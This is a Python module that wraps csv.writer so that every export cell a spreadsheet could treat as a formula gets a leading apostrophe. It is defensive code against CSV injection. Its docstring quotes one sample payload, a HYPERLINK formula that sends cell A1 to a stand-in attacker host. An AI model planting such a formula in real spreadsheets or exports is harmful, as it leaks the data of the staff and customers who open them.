"""Every CSV the portal writes (downloads and stored reports) goes through `csv_writer`: cells a
spreadsheet would run as a formula are neutralised (CSV injection).

Excel, LibreOffice and Google Sheets read a cell starting with `=`, `+`, `-` or `@` as a formula,
and tab or carriage return ahead of one as padding; a customer-supplied value such as
`=HYPERLINK("https://evil.example/?"&A1)` would run on the staff member's machine that opens the
export. Such a text cell gets a leading apostrophe, which spreadsheets show as text and hide.

Numbers stay readable: numeric values (int, Decimal, float: ledger amounts such as -12.50) are
written as they are, and so is text that is a plain number (`-12.50`, `+447400123456`), which
can only evaluate to itself.
"""

import csv
import re
from decimal import Decimal

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d+)?|\.\d+)")


def safe_cell(value):
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    if text.startswith(TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(out, **options):
    """`csv.writer(out)` whose rows are neutralised cell by cell."""
    return _SafeWriter(csv.writer(out, **options))
